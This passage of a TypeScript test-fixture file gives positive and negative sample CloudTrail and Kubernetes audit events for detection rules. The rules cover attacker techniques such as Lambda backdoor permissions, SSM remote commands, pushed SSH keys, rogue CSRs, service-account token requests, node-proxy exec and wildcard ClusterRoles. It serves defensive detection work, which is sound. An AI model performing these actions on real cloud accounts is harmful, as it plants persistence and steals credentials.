    ],
  },
  'cloudtrail.ec2-user-data': {
    pos: [
      [
        'user data read',
        () =>
          ct('ec2.amazonaws.com', 'DescribeInstanceAttribute', {
            requestParameters: { instanceId: 'i-0a1b2c3d4e5f67890', attribute: 'userData' },
            readOnly: true,
          }),
        3,
      ],
      [
        'user data changed',
        () =>
          ct('ec2.amazonaws.com', 'ModifyInstanceAttribute', {
            requestParameters: { instanceId: 'i-0a1b2c3d4e5f67890', userData: '<sensitiveDataRemoved>' },
          }),
        2,
      ],
    ],
    neg: [
      [
        'instance type read',
        () =>
          ct('ec2.amazonaws.com', 'DescribeInstanceAttribute', {
            requestParameters: { instanceId: 'i-1', attribute: 'instanceType' },
            readOnly: true,
          }),
      ],
      [
        'instance type changed',
        () =>
          ct('ec2.amazonaws.com', 'ModifyInstanceAttribute', {
            requestParameters: { instanceId: 'i-1', instanceType: { value: 't3.large' } },
          }),
      ],
    ],
  },
  'cloudtrail.lambda-backdoor': {
    pos: [
      [
        'invoke permission for anyone',
        () =>
          ct('lambda.amazonaws.com', 'AddPermission20150331v2', {
            requestParameters: {
              functionName: 'orders-api',
              statementId: 'backdoor',
              action: 'lambda:InvokeFunction',
              principal: '*',
            },
          }),
        1,
      ],
      [
        'code replaced',
        () =>
          ct('lambda.amazonaws.com', 'UpdateFunctionCode20150331v2', {
            requestParameters: { functionName: 'orders-api', publish: false, dryRun: false },
          }),
        2,
      ],
      [
        'layer added',
        () =>
          ct('lambda.amazonaws.com', 'UpdateFunctionConfiguration20150331v2', {
            requestParameters: {
              functionName: 'orders-api',
              layers: ['arn:aws:lambda:eu-west-1:012345678901:layer:x:1'],
            },
          }),
        2,
      ],
    ],
    neg: [
      [
        'permission for an AWS service',
        () =>
          ct('lambda.amazonaws.com', 'AddPermission20150331v2', {
            requestParameters: { functionName: 'f', action: 'lambda:InvokeFunction', principal: 's3.amazonaws.com' },
          }),
      ],
      [
        'memory changed',
        () =>
          ct('lambda.amazonaws.com', 'UpdateFunctionConfiguration20150331v2', {
            requestParameters: { functionName: 'f', memorySize: 512 },
          }),
      ],
    ],
  },
  'cloudtrail.ssm-remote-command': {
    pos: [
      [
        'SendCommand',
        () =>
          ct('ssm.amazonaws.com', 'SendCommand', {
            requestParameters: {
              instanceIds: ['i-0a1b2c3d4e5f67890'],
              documentName: 'AWS-RunShellScript',
              interactive: false,
            },
          }),
        2,
      ],
      [
        'StartSession',
        () => ct('ssm.amazonaws.com', 'StartSession', { requestParameters: { target: 'i-0a1b2c3d4e5f67890' } }),
        2,
      ],
    ],
    neg: [['ListCommands', () => ct('ssm.amazonaws.com', 'ListCommands', { readOnly: true })]],
  },
  'cloudtrail.instance-ssh-key-pushed': {
    pos: [
      [
        'Instance Connect',
        () =>
          ct('ec2-instance-connect.amazonaws.com', 'SendSSHPublicKey', {
            requestParameters: {
              instanceId: 'i-0a1b2c3d4e5f67890',
              instanceOSUser: 'ec2-user',
              sSHPublicKey: 'ssh-ed25519 AAAA',
            },
          }),
        2,
      ],
      [
        'serial console',
        () =>
          ct('ec2-instance-connect.amazonaws.com', 'SendSerialConsoleSSHPublicKey', {
            requestParameters: { instanceId: 'i-1', serialPort: 0, sSHPublicKey: 'ssh-ed25519 AAAA' },
          }),
        2,
      ],
    ],
    neg: [
      ['EC2 key pair import', () => ct('ec2.amazonaws.com', 'ImportKeyPair', { requestParameters: { keyName: 'k' } })],
    ],
  },
  'cloudtrail.federation-token': {
    pos: [
      [
        'GetFederationToken',
        () =>
          ct('sts.amazonaws.com', 'GetFederationToken', {
            userIdentity: IAM_USER,
            requestParameters: { name: 'stratus', durationSeconds: 129600 },
          }),
        2,
      ],
    ],
    neg: [['GetSessionToken', () => ct('sts.amazonaws.com', 'GetSessionToken', { userIdentity: IAM_USER })]],
  },
  'cloudtrail.roles-anywhere-trust-anchor': {
    pos: [
      [
        'CreateTrustAnchor',
        () =>
          ct('rolesanywhere.amazonaws.com', 'CreateTrustAnchor', {
            requestParameters: { name: 'ta', enabled: true, source: { sourceType: 'CERTIFICATE_BUNDLE' } },
          }),
        1,
      ],
    ],
    neg: [['ListTrustAnchors', () => ct('rolesanywhere.amazonaws.com', 'ListTrustAnchors', { readOnly: true })]],
  },
  'cloudtrail.eks-access-entry': {
    pos: [
      [
        'CreateAccessEntry',
        () =>
          ct('eks.amazonaws.com', 'CreateAccessEntry', {
            requestParameters: { name: 'prod', principalArn: 'arn:aws:iam::012345678901:role/x' },
          }),
        1,
      ],
    ],
    neg: [
      [
        'DescribeCluster',
        () => ct('eks.amazonaws.com', 'DescribeCluster', { requestParameters: { name: 'prod' }, readOnly: true }),
      ],
    ],
  },
  // Kubernetes technique coverage (k8s-technique-rules.ts), audit.k8s.io/v1 shapes.
  'k8s.client-certificate': {
    pos: [
      [
        'CSR created',
        () =>
          audit({
            verb: 'create',
            requestURI: '/apis/certificates.k8s.io/v1/certificatesigningrequests',
            objectRef: {
              resource: 'certificatesigningrequests',
              name: 'backdoor',
              apiGroup: 'certificates.k8s.io',
              apiVersion: 'v1',
            },
            responseStatus: { metadata: {}, code: 201 },
          }),
        2,
      ],
      [
        'CSR approved',
        () =>
          audit({
            verb: 'update',
            requestURI: '/apis/certificates.k8s.io/v1/certificatesigningrequests/backdoor/approval',
            objectRef: {
              resource: 'certificatesigningrequests',
              name: 'backdoor',
              apiGroup: 'certificates.k8s.io',
              apiVersion: 'v1',
              subresource: 'approval',
            },
          }),
        1,
      ],
    ],
    neg: [
      [
        'kubelet CSR',
        () =>
          audit({
            verb: 'create',
            user: { username: 'system:node:ip-10-0-1-5.ec2.internal', groups: ['system:nodes'] },
            objectRef: { resource: 'certificatesigningrequests', apiGroup: 'certificates.k8s.io' },
            responseStatus: { metadata: {}, code: 201 },
          }),
      ],
      [
        'CSR listed',
        () =>
          audit({
            verb: 'list',
            objectRef: { resource: 'certificatesigningrequests', apiGroup: 'certificates.k8s.io' },
          }),
      ],
    ],
  },
  'k8s.token-request': {
    pos: [
      [
        'token for a service account',
        () =>
          audit({
            verb: 'create',
            requestURI: '/api/v1/namespaces/payments/serviceaccounts/api/token',
            objectRef: {
              resource: 'serviceaccounts',
              namespace: 'payments',
              name: 'api',
              apiVersion: 'v1',
              subresource: 'token',
            },
            responseStatus: { metadata: {}, code: 201 },
          }),
        2,
      ],
    ],
    neg: [
      [
        'kubelet projected token',
        () =>
          audit({
            verb: 'create',
            user: { username: 'system:node:ip-10-0-1-5.ec2.internal', groups: ['system:nodes'] },
            objectRef: { resource: 'serviceaccounts', namespace: 'payments', name: 'api', subresource: 'token' },
            responseStatus: { metadata: {}, code: 201 },
          }),
      ],
    ],
  },
  'k8s.nodes-proxy': {
    pos: [
      [
        'kubelet exec through the proxy',
        () =>
          audit({
            verb: 'create',
            requestURI: '/api/v1/nodes/ip-10-0-1-5/proxy/exec/payments/api/api?command=id',
            objectRef: { resource: 'nodes', name: 'ip-10-0-1-5', apiVersion: 'v1', subresource: 'proxy' },
          }),
        1,
      ],
    ],
    neg: [
      [
        'node read',
        () => audit({ verb: 'get', objectRef: { resource: 'nodes', name: 'ip-10-0-1-5', apiVersion: 'v1' } }),
      ],
    ],
  },
  'k8s.risky-role': {
    pos: [
      [
        'wildcard ClusterRole',
        () =>
          audit({
            verb: 'create',
            objectRef: { resource: 'clusterroles', name: 'ops-helper', apiGroup: 'rbac.authorization.k8s.io' },
            responseStatus: { metadata: {}, code: 201 },
            requestObject: {
              kind: 'ClusterRole',
              apiVersion: 'rbac.authorization.k8s.io/v1',
              metadata: { name: 'ops-helper' },
              rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }],
            },
          }),
        2,
      ],
      [
        'exec Role',
        () =>
          audit({
            verb: 'create',
            objectRef: {
              resource: 'roles',
              namespace: 'payments',
              name: 'debug',
              apiGroup: 'rbac.authorization.k8s.io',
            },
            responseStatus: { metadata: {}, code: 201 },
            requestObject: {
              kind: 'Role',
              metadata: { name: 'debug' },
              rules: [{ apiGroups: [''], resources: ['pods/exec'], verbs: ['create'] }],
            },
          }),
        2,
      ],
    ],
    neg: [
      [
        'read-only ClusterRole',
        () =>
          audit({
            verb: 'create',
            objectRef: { resource: 'clusterroles', name: 'viewer', apiGroup: 'rbac.authorization.k8s.io' },
            responseStatus: { metadata: {}, code: 201 },
            requestObject: {
              kind: 'ClusterRole',
              metadata: { name: 'viewer' },
              rules: [{ apiGroups: [''], resources: ['pods', 'secrets'], verbs: ['get', 'list'] }],
            },
          }),
      ],
      [
        'system role reconciled by the apiserver',
        () =>
          audit({
            verb: 'update',
            user: { username: 'system:apiserver', groups: ['system:masters'] },
            objectRef: { resource: 'clusterroles', name: 'system:controller:x', apiGroup: 'rbac.authorization.k8s.io' },
            requestObject: {
              kind: 'ClusterRole',
              metadata: { name: 'system:controller:x' },
              rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }],
            },
          }),
      ],
    ],
  },
  'k8s.kube-system-create': {
    pos: [
      [
        'service account in kube-system',
        () =>
          audit({
            verb: 'create',
            requestURI: '/api/v1/namespaces/kube-system/serviceaccounts',
            objectRef: {
              resource: 'serviceaccounts',
              namespace: 'kube-system',
              name: 'metrics-helper',
              apiVersion: 'v1',
            },
            responseStatus: { metadata: {}, code: 201 },
          }),
        2,
      ],
    ],
    neg: [
      [
        'controller pod in kube-system',
        () =>
          audit({
            verb: 'create',
            user: {
              username: 'system:serviceaccount:kube-system:replicaset-controller',
              groups: ['system:serviceaccounts'],
            },
            objectRef: { resource: 'pods', namespace: 'kube-system', apiVersion: 'v1' },
            responseStatus: { metadata: {}, code: 201 },
          }),
      ],
      [
        'service account elsewhere',
        () =>
          audit({
            verb: 'create',
            objectRef: { resource: 'serviceaccounts', namespace: 'payments', name: 'x', apiVersion: 'v1' },
            responseStatus: { metadata: {}, code: 201 },
          }),
      ],
    ],
  },
};

/** Every rule's fixtures: these and the secret, session and S3 technique rules' own file. */
export const CASES: Record<string, Case> = { ...OWN_CASES, ...TECHNIQUE_CASES };
